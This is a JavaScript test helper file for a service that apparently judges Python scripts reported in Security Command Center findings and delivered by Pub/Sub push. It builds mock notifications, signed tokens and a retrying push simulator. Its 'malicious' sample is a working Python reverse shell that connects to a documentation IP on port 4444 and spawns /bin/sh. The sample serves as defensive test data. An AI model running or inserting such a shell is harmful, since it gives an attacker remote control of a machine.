// What the tests share: samples (harmless, with addresses that are reserved for documentation), tokens, the service as a
// process, and a stand-in for Pub/Sub.
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

import { exportJWK, generateKeyPair, SignJWT } from 'jose';

import { settingsOf } from '../settings.js';

export const malicious = [
  'import socket, subprocess, os',
  's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
  's.connect(("192.0.2.7", 4444))',
  'os.dup2(s.fileno(), 0)',
  'os.dup2(s.fileno(), 1)',
  'os.dup2(s.fileno(), 2)',
  'subprocess.call(["/bin/sh", "-i"])',
  '',
].join('\n');
export const benign = 'def add(a, b):\n    """The sum."""\n    return a + b\n\n\nprint(add(1, 2))\n';

/** A notification as Security Command Center publishes it. @param {string} contents @param {string} [name] */
export const notification = (contents, name = 'organizations/1/sources/2/findings/abc') =>
  JSON.stringify({
    notificationConfigName: 'organizations/1/notificationConfigs/python',
    finding: {
      name,
      parentDisplayName: 'Cloud Run Threat Detection',
      category: 'Execution: Malicious Python executed',
      state: 'ACTIVE',
      severity: 'HIGH',
      findingClass: 'THREAT',
      eventTime: '2025-06-01T10:00:00Z',
      resourceName: '//run.googleapis.com/projects/example/locations/europe-west1/services/shop',
      processes: [
        {
          name: 'python3',
          binary: { path: '/usr/bin/python3' },
          script: { path: '/tmp/job.py', size: String(Buffer.byteLength(contents)), contents },
          args: ['python3', '/tmp/job.py'],
        },
      ],
    },
  });

/** @param {string} data @param {string} [messageId] */
export const envelope = (data, messageId = '1') => ({
  message: {
    data: Buffer.from(data).toString('base64'),
    messageId,
    publishTime: '2025-06-01T10:00:01Z',
    attributes: {},
  },
  subscription: 'projects/example/subscriptions/python',
});

/** @param {Record<string, string>} [env] */
export const settings = (env = {}) => settingsOf({ THREADS: '1', MODEL: 'off', ...env });

export const audience = 'https://service.example.invalid/pubsub';
export const email = 'push@example.iam.gserviceaccount.example.invalid';

/**
 * A key set in a file, and tokens that are signed with its key, as a push subscription sends them.
 *
 * @param {import('node:test').TestContext} context
 */
export async function issuer(context) {
  const { publicKey, privateKey } = await generateKeyPair('RS256');
  const other = await generateKeyPair('RS256');
  const folder = mkdtempSync(join(tmpdir(), 'pyverdict-keys-'));
  context.after(() => rmSync(folder, { recursive: true, force: true }));
  const keys = join(folder, 'keys.json');
  writeFileSync(
    keys,
    JSON.stringify({ keys: [{ ...(await exportJWK(publicKey)), kid: 'a', alg: 'RS256' }] }),
  );
  /** @param {object} [change] of the claims @param {boolean} [foreign] signed with a key that is not in the set */
  const token = (change = {}, foreign = false) => {
    const now = Math.floor(Date.now() / 1000);
    const claims = {
      iss: 'https://accounts.google.com',
      aud: audience,
      email,
      email_verified: true,
      iat: now,
      exp: now + 600,
    };
    return new SignJWT({ ...claims, ...change })
      .setProtectedHeader({ alg: 'RS256', kid: 'a' })
      .sign(foreign ? other.privateKey : privateKey);
  };
  return { keys, token };
}

/**
 * The service as a process of its own.
 *
 * @param {Record<string, string>} env
 */
export async function startProcess(env) {
  const child = spawn(process.execPath, [fileURLToPath(new URL('../main.js', import.meta.url))], {
    env: { ...process.env, THREADS: '1', MODEL: 'off', ...env },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  /** @type {string[]} */
  const log = [];
  let rest = '';
  const listening = new Promise((resolve, reject) => {
    child.stdout.setEncoding('utf8').on('data', (text) => {
      const lines = (rest + text).split('\n');
      rest = lines.pop() ?? '';
      log.push(...lines);
      const address = lines.join('\n').match(/listening at (http:\/\/\S+?:\d+)/)?.[1];
      if (address) resolve(address.replace('[::]', 'localhost').replace(/\[::1\]/, 'localhost'));
    });
    child.once('exit', (code) => reject(new Error(`the service ended with ${code}: ${log.join('\n')}`)));
  });
  listening.catch(() => {});
  return { child, log, address: /** @type {Promise<string>} */ (listening), exit: once(child, 'close') };
}

/**
 * Pub/Sub's side of a push subscription: a message is sent again, after a pause that grows, until an answer of success
 * acknowledges it. Anything else (a refusal, a broken connection, silence beyond the deadline) is no acknowledgement.
 *
 * @param {{ data: string, id: string }[]} messages
 * @param {() => Promise<string>} addressOf where to push to at the moment
 * @param {{ atOnce: number, deadline: number, onAck?: (acked: number) => void }} options
 */
export async function pushAll(messages, addressOf, { atOnce, deadline, onAck }) {
  const queue = messages.map((message) => ({ ...message, attempts: 0 }));
  /** @type {Map<string, number>} */
  const acked = new Map();
  const sender = async () => {
    for (let message = queue.shift(); message; message = queue.shift()) {
      message.attempts += 1;
      try {
        const response = await fetch(`${await addressOf()}/pubsub`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify(envelope(message.data, message.id)),
          signal: AbortSignal.timeout(deadline),
        });
        await response.arrayBuffer();
        if (!response.ok) throw new Error(String(response.status));
        acked.set(message.id, message.attempts);
        onAck?.(acked.size);
      } catch {
        await new Promise((resolve) => setTimeout(resolve, Math.min(20 * 2 ** message.attempts, 1000)));
        queue.push(message);
      }
    }
  };
  await Promise.all(Array.from({ length: atOnce }, sender));
  return acked;
}
